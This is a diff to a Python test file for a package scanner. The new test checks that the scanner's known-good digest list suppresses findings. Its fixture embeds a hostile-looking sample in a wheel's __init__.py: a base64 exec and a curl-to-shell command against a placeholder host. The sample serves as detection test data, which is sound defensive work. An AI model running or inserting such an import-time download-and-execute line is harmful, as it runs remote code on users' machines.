@@ -7,7 +7,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+import scanner.scan
 from scanner.known_good import KnownGood, KnownGoodError, built_in, digest_of, load, save
+from scanner.report import ScanJob
+from scanner.ruleset import DEFAULT_RULES, load_rules
+from tests.scanner.distributions import wheel
 
 DIGESTS = st.lists(st.binary(min_size=10, max_size=32), max_size=40)
 
@@ -53,3 +57,16 @@ def test_a_file_that_is_no_list_is_refused(tmp_path: Path, raw: bytes) -> None:
 
 def test_the_built_in_list_is_small() -> None:
     assert 0 < len(built_in()) < 100
+
+
+def test_neither_rules_nor_signals_speak_of_what_stands_in_a_member_known_good(monkeypatch: pytest.MonkeyPatch) -> None:
+    source = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl https://a.invalid | sh')\n"
+    job = ScanJob(filename="sample-1.0-py3-none-any.whl", data=wheel({"sample/__init__.py": source}))
+    rules = load_rules(DEFAULT_RULES)
+
+    def told() -> set[str]:
+        return {f.rule for f in scanner.scan.scan(job, rules).findings if f.member == "sample/__init__.py"}
+
+    assert {"import-starts-program", "curl_pipe_shell"} <= told()
+    monkeypatch.setattr(scanner.scan, "known_good", lambda: KnownGood([digest_of(source)]))
+    assert not told()
